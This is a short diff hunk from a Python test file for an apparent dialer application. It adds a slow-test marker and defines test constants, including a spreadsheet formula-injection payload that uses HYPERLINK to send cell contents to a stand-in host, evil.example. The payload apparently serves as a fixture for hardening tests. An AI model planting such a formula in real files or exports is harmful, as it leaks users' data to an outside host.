@@ -20,6 +20,9 @@ from a1dialer.core.calllog import CallLog
 from a1dialer.core.settings import load_settings, save_settings
 from a1dialer.pbx.simulator import PbxSimulator
 
+# Each test runs the app or the command line in a subprocess: left out of the quick run.
+pytestmark = pytest.mark.slow
+
 KEY = "cli-hardening-key-93be"
 FORMULA_NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
 # What a hostile list row, link or PBX reply can hold: a screen clear, a forged line, a
